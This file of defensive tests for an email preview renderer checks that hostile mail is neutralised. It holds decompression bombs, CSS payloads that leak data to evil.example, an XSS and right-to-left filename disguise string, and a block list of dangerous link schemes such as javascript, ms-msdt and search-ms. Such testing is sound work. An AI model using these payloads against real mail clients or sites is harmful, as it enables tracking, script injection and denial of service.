/** Mail that wants to be more than it is: bombs, endless lines, disguises in every kind of attachment. Bounds are counted, never timed. */
import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { deflateRawSync, gzipSync } from 'node:zlib';
import { octetsOf, sizeOf, wordsOf } from '../../src/preview/mail/content';
import { readMail, type Mail } from '../../src/preview/mail/mail';
import { inMemory, type Octets } from '../../src/preview/mail/octets';
import { safeCss } from '../../src/preview/safe/css';
import { Answering } from '../../src/preview/worker/answering';
import { clean, htmlMail, mailOf, pageOf, plainly } from './letters';

function attached(type: string, content: Buffer): Mail {
  return mailOf(
    ...['From: a@example.com', 'Content-Type: multipart/mixed; boundary=b', '', '--b', '', 'text', '--b'],
    ...[`Content-Type: ${type}`, 'Content-Transfer-Encoding: base64', '', content.toString('base64'), '--b--', ''],
  );
}

/** Of ten million zeros: what it would be is a thousand times what it is. */
const zeros = Buffer.alloc(10_000_000);
const bombs: readonly (readonly [type: string, octets: Buffer])[] = [
  ['application/gzip; name=a.gz', gzipSync(zeros)],
  ['application/zip; name=a.zip', Buffer.concat([Buffer.from('PK\x03\x04', 'latin1'), deflateRawSync(zeros)])],
  ['application/pdf; name=a.pdf', Buffer.concat([Buffer.from('%PDF-1.7 /FlateDecode stream '), deflateRawSync(zeros)])],
  ['image/svg+xml; name=a.svgz', gzipSync(zeros)],
  ['text/plain; name=a.txt; charset=utf-8', gzipSync(zeros)],
  ['text/calendar; name=a.ics', gzipSync(zeros)],
  ['message/rfc822; name=a.eml', gzipSync(zeros)],
];

void test('what is compressed is never inflated: not when it is laid out, opened, or previewed as a message', async () => {
  for (const [type, octets] of bombs) {
    const mail = attached(type, octets);
    const [part] = mail.files;
    assert.ok(part && sizeOf(mail, part) === octets.length, type);
    assert.ok(pageOf(mail).page.length < 40_000 + 3 * octets.length, type);
    const source = { stamp: type, octets: mail.octets.read(0, mail.octets.size) };
    const opened = await new Answering().answer({ kind: 'part', source, part: '2' });
    assert.ok(opened.kind === 'part' && octets.equals(opened.octets), type);
    const inside = await new Answering().answer({
      kind: 'page',
      source: { ...source, inside: ['2'] },
      wishes: plainly,
    });
    const length = inside.kind === 'page' ? inside.page.page.length : 0;
    assert.ok(length < 40_000 + 12 * octets.length, `${type}: ${length}`);
  }
});

void test('the worker has nothing that could inflate', () => {
  const bundle = readFileSync(join(import.meta.dirname, '..', '..', 'dist', 'mail.js'), 'utf8');
  assert.doesNotMatch(bundle, /require\(["'](?:node:)?(?:zlib|child_process|net|http|https|dns|tls)["']\)/);
});

const endless = 10_000_000;
void test('a line of ten megabytes, wherever it stands, is a page of a bounded size', () => {
  const line = 'x'.repeat(endless);
  const letters: readonly (readonly [name: string, mail: Mail])[] = [
    ['subject', mailOf(`Subject: ${line}`, '', 'x')],
    ['recipients', mailOf(`To: ${'a@example.com,'.repeat(endless / 14)}`, '', 'x')],
    ['text', mailOf('Subject: a', '', line)],
    ['html', htmlMail(`<p>${line}`)],
    ['attribute', htmlMail(`<p title="${line}">a`)],
    ['boundary', mailOf(`Content-Type: multipart/mixed; boundary="${line}"`, '', `--${line}`, '', 'x')],
    ['name', mailOf(`Content-Type: application/zip; name="${line}"`, '', 'x')],
    ['encoded word', mailOf(`Subject: =?utf-8?q?${line}?=`, '', 'x')],
    ['comment', mailOf(`From: ${'('.repeat(endless)}`, '', 'x')],
    ['type', mailOf(`Content-Type: ${line}/${line}`, '', 'x')],
  ];
  for (const [name, mail] of letters) {
    const { page, frame = '' } = pageOf(mail);
    assert.ok(page.length + frame.length < 1_500_000, `${name}: ${page.length + frame.length}`);
  }
});

void test('a declared gigabyte of base64 is the few octets it is, and a real one is read in steps', () => {
  const head = Buffer.from(
    'Content-Type: application/zip; size=1073741824\r\nContent-Transfer-Encoding: base64\r\n\r\n',
  );
  const size = 1_000_000_000;
  let most = 0;
  let asked = 0;
  const line = Buffer.from('QUJD'.repeat(250_000));
  const huge: Octets = {
    size,
    read: (start, end) => {
      const length = Math.max(0, Math.min(end, size) - start);
      most = Math.max(most, length);
      asked += length;
      return start === 0 ? Buffer.concat([head, line]).subarray(0, length) : line.subarray(0, length);
    },
  };
  const mail = readMail(huge, { run: 32_000, top: 1_000_000, together: 32_000_000, scanned: 50_000_000 });
  assert.ok(mail.message.text.length <= 1_000_000);
  assert.ok(most <= 1_000_002 && asked < 60_000_000, `${most}, ${asked} octets`);
  assert.ok(octetsOf(mail, mail.message.root, 3_000).length <= 6_000);
  assert.equal(readMail(inMemory(head)).message.root.body.end, head.length);
});

void test('style can not tell a host what is in the message', () => {
  for (const css of [
    'a[href^="https://x"]{background:url(https://evil.example/1)}',
    'p{list-style-image:url(https://evil.example/2);cursor:url("https://evil.example/3"),auto}',
    'p::before{content:url(https://evil.example/4)}',
    '@font-face{font-family:a;src:url(https://evil.example/5);unicode-range:U+0041}',
    '@import url(https://evil.example/6) layer(x);@import"https://evil.example/7"',
    'p{background:-webkit-image-set("https://evil.example/8" 1x);filter:url(https://evil.example/9#a)}',
    '@media all{p{border-image:URL(\thttps://evil.example/10) 1}}',
    'p{--a:url(https://evil.example/11);background:var(--a)}',
    'p{background:u\\rl(https://evil.example/12)}',
    '@namespace url(https://evil.example/13);@charset "https://evil.example/14";',
  ]) {
    assert.doesNotMatch(safeCss(css, { dark: false, resolve: () => undefined }), /evil\.example/, css);
    assert.doesNotMatch(
      pageOf(htmlMail(`<style>${css}</style><p style='${css.replace(/'/g, '')}'>a`)).frame ?? '',
      /evil/,
      css,
    );
  }
});

void test('pictures that name one another end: each is written once for each place, and no message is one', () => {
  const mail = mailOf(
    ...['Content-Type: multipart/related; boundary=b', '', '--b', 'Content-Type: text/html', 'Content-ID: <a@x>', ''],
    '<style>p{background:url(cid:a@x)}</style><img src="cid:a@x"><img src="cid:b@x"><img src="cid:c@x">',
    ...[
      '--b',
      'Content-Type: message/rfc822',
      'Content-ID: <b@x>',
      '',
      'Content-Type: text/html',
      '',
      '<img src="cid:a@x">',
    ],
    ...[
      '--b',
      'Content-Type: image/svg+xml',
      'Content-ID: <c@x>',
      '',
      '<svg><image href="cid:c@x"/></svg>',
      '--b--',
      '',
    ],
  );
  const { frame = '' } = pageOf(mail);
  assert.doesNotMatch(frame, /cid:|src=/);
});

const evil = '<img src=x onerror=alert(1)>\u202egnp.exe';
void test('markup and direction marks in every kind of attachment are text on the page', () => {
  const calendar = `BEGIN:VCALENDAR\r\nMETHOD:${evil}\r\nBEGIN:VEVENT\r\nSUMMARY:${evil}\r\nLOCATION:${evil}\r\nORGANIZER;CN="${evil}":mailto:${evil}\r\nDTSTART;TZID="${evil}":20261201T090000\r\nRRULE:${evil}\r\nDURATION:${evil}\r\nEND:VEVENT\r\nEND:VCALENDAR`;
  const status = `Reporting-MTA: ${evil}\r\n\r\nFinal-Recipient: rfc822; ${evil}\r\nAction: failed\r\nStatus: 5.1.1\r\nDiagnostic-Code: smtp; 550 ${evil}\r\nRemote-MTA: dns; ${evil}\r\n`;
  const inner = `From: ${evil}\r\nSubject: ${evil}\r\nDate: ${evil}\r\n\r\n${evil}`;
  for (const [type, content] of [
    ['text/calendar', calendar],
    ['message/delivery-status', status],
    ['message/rfc822', inner],
    ['text/rfc822-headers', inner],
    ['application/pdf', `%PDF-1.4 /Title (${evil.replace(/[()]/g, '')})`],
    [`application/json; name="${evil}"`, `{"a": "${evil}"}`],
  ] as const) {
    const { page } = pageOf(attached(type, Buffer.from(content)));
    assert.doesNotMatch(page, /<img src=x|\u202e/, type);
    assert.match(page, /&#60;img src=x/, type);
  }
});

void test('ten thousand messages inside, and reports, are laid out to a limit', () => {
  const part = '--b\r\nContent-Type: message/rfc822\r\n\r\nSubject: inner\r\n\r\nx';
  const mail = mailOf(
    'Content-Type: multipart/mixed; boundary=b',
    '',
    ...Array.from({ length: 4_900 }, () => part),
    '--b--',
  );
  const { page } = pageOf(mail);
  assert.equal(page.match(/data-inside/g)?.length, 500);
  assert.match(page, /4400 more attachments are not shown here/);
  assert.ok(page.length < 2_000_000, `${page.length}`);
});

void test('a link is what it says, or none: schemes that run, and those that open a program', () => {
  for (const scheme of [
    'javascript',
    'data',
    'vbscript',
    'file',
    'command',
    'vscode',
    'ms-msdt',
    'search-ms',
    'smb',
    'jar',
    'blob',
  ])
    assert.doesNotMatch(
      clean(`<a href="${scheme}:x">a</a><area href="${scheme}:x"><img src="${scheme}:x">`).body,
      /href|src/,
      scheme,
    );
});

void test('text that says it is megabytes of another charset is shown to the limit, whatever is in it', () => {
  for (const charset of ['utf-16', 'iso-2022-jp', 'gb18030', 'x-nothing', '\u202e', 'utf-8']) {
    const mail = mailOf(`Content-Type: text/plain; charset="${charset}"`, '', '\u001b$B\u00ff'.repeat(1_500_000));
    assert.ok(wordsOf(mail, mail.message.root).text.length <= 1_000_000, charset);
  }
});
